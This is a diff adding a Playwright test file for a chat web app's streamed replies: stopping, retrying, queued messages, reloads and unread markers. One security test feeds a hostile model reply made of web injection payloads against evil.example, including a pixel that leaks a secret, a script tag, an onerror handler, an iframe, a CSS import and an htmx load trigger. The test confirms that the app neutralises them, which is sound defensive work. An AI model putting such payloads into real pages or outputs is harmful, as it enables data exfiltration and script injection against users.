@@ -1,0 +1,160 @@
+"""Replies as people meet them: growing, stopped, failed, waiting, and after a reload."""
+
+import re
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.desk import Person
+from tests.browser.product import Product
+from tests.fakes.fake_server import FakeServer
+
+SLOW = "[[fake tokens=400 ms=30]]"
+
+
+@pytest.fixture(scope="session")
+def connected(browser: Any, product: Product, signed_in: Any, fake: FakeServer) -> str:
+    """The fake server, connected on the setup page as an operator does it; its host."""
+    context = browser.new_context(storage_state=signed_in)
+    page = context.new_page()
+    page.goto(product.url + "/setup/")
+    page.get_by_label("Address").fill(fake.base_url)
+    page.get_by_label("Name", exact=True).fill("The test server")
+    page.get_by_role("button", name="Test and save").click()
+    expect(page.locator(".card", has_text="The test server")).to_contain_text("in use")
+    context.close()
+    return fake.host
+
+
+@pytest.fixture
+def scripted(fake: FakeServer) -> Iterator[FakeServer]:
+    """The fake server, told nothing."""
+    yield fake
+    fake.configure(replies=[], faults=[])
+
+
+def choose(person: Person, model: str) -> None:
+    """Pick the model that answers in a chat that is about to begin."""
+    person.open("/chats/new")
+    person.page.locator("#model-picker > summary").click()
+    person.page.locator("#model-picker label", has_text=model).click()
+    person.page.keyboard.press("Escape")
+
+
+def begin(person: Person, text: str, *, model: str = "fake-chat") -> None:
+    """Begin a chat with a model of the fake server."""
+    choose(person, model)
+    person.type(text)
+    expect(person.page.locator("#context-meter")).to_be_visible()
+
+
+def test_a_reply_is_stopped_in_the_middle_and_can_be_continued(
+    admin: Person, connected: str
+) -> None:
+    begin(admin, f"Count slowly {SLOW}")
+    expect(admin.live).to_contain_text(" 5@")
+    admin.page.keyboard.press("Escape")
+
+    expect(admin.page.locator("[data-live]")).to_have_count(0)
+    expect(admin.reply).to_contain_text("stopped")
+    expect(admin.reply).to_contain_text(" 5@")
+    expect(admin.page.locator("#status")).to_have_text("Reply stopped.")
+    assert " 399@" not in admin.reply.inner_text()
+    admin.reply.get_by_role("button", name="Continue the reply").click()
+    expect(admin.reply).to_contain_text("continued")
+    admin.wait_for_reply()
+
+
+def test_a_failed_reply_says_why_and_is_tried_again(
+    admin: Person, connected: str, scripted: FakeServer
+) -> None:
+    scripted.configure(faults=[{"fault": "404", "match": "first try", "times": 1}])
+    begin(admin, "A first try")
+
+    outcome = admin.page.locator(".notice--danger")
+    expect(outcome).to_contain_text("No complete reply")
+    expect(outcome).to_contain_text("did not accept the request")
+    expect(outcome).to_contain_text("Your message is saved.")
+    admin.page.get_by_role("button", name="Try again").click()
+
+    admin.wait_for_reply()
+    expect(admin.reply).to_contain_text(" 0@")
+    expect(outcome).to_have_count(0)
+    expect(admin.page.locator(".msg--user")).to_have_count(1)
+
+
+def test_a_message_sent_during_a_reply_waits_and_is_answered(admin: Person, connected: str) -> None:
+    begin(admin, "Count slowly [[fake tokens=80 ms=30]]")
+    expect(admin.live).to_contain_text(" 3@")
+    expect(admin.page.locator("#send")).to_have_text("Send next")
+    admin.type("And then?")
+
+    waiting = admin.page.locator(".msg--user", has_text="And then?")
+    expect(waiting).to_contain_text("waiting")
+    expect(admin.live).to_contain_text(re.compile(r" [1-9]\d@"))
+    admin.wait_for_reply()
+    expect(waiting).not_to_contain_text("waiting")
+    expect(admin.page.locator(".msg--user")).to_have_count(2)
+    assert admin.page.locator("article.msg").last.get_attribute("id") == admin.reply.get_attribute(
+        "id"
+    )
+
+
+def test_a_reload_in_the_middle_keeps_the_text_and_goes_on(admin: Person, connected: str) -> None:
+    begin(admin, "Count slowly [[fake tokens=120 ms=30]]")
+    expect(admin.live).to_contain_text(" 20@")
+    admin.page.reload()
+
+    expect(admin.live).to_contain_text(" 20@")
+    admin.wait_for_reply()
+    found = re.findall(r"(\d+)@", admin.reply.inner_text())
+    assert found == [str(number) for number in range(120)]
+
+
+@pytest.mark.requirement("S5")
+def test_a_hostile_reply_asks_nobody_and_runs_nothing(
+    admin: Person, connected: str, scripted: FakeServer
+) -> None:
+    hostile = (
+        "![pixel](https://evil.example/p.png?q=secret) "
+        "[the bank](https://evil.example/login) "
+        '<img src="https://evil.example/i.png" onerror="document.title=1"> '
+        '<iframe src="https://evil.example/f"></iframe>'
+        '<link rel="prefetch" href="https://evil.example/x">'
+        '<style>@import url("https://evil.example/c.css")</style>'
+        "<script>document.title = 'taken'</script> "
+        '<div hx-get="https://evil.example/h" hx-trigger="load">x</div> the end'
+    )
+    scripted.configure(replies=[{"text": hostile, "match": "be hostile"}])
+    begin(admin, "Please be hostile")
+
+    admin.wait_for_reply()
+    expect(admin.reply).to_contain_text("the end")
+    expect(admin.reply).to_contain_text("evil.example")
+    expect(admin.reply.locator("img, iframe, script, style, link, [hx-get]")).to_have_count(0)
+    link = admin.reply.get_by_role("link", name="the bank")
+    assert "noopener" in str(link.get_attribute("rel"))
+    admin.page.reload()
+    expect(admin.reply).to_contain_text("the end")
+    assert admin.page.title() != "taken"
+    assert admin.foreign == []
+
+
+def test_a_reply_in_another_chat_is_unread_until_it_is_seen(
+    admin: Person, open_tab: Callable[..., Person], product: Product, signed_in: Any, connected: str
+) -> None:
+    begin(admin, "Unread one [[fake tokens=30 ms=30]]")
+    expect(admin.live).to_be_visible()
+    admin.open("/chats/new")
+    item = admin.page.locator("#chat-list li", has_text="Unread one").first
+    expect(item).to_contain_text("reply in progress")
+    for _ in range(20):
+        admin.page.reload()
+        if item.get_by_text("unread reply").count():
+            break
+    expect(item).to_contain_text("unread reply")
+    item.get_by_role("link").click()
+    expect(admin.reply).to_contain_text(" 29@")
+    expect(item).not_to_contain_text("unread reply")
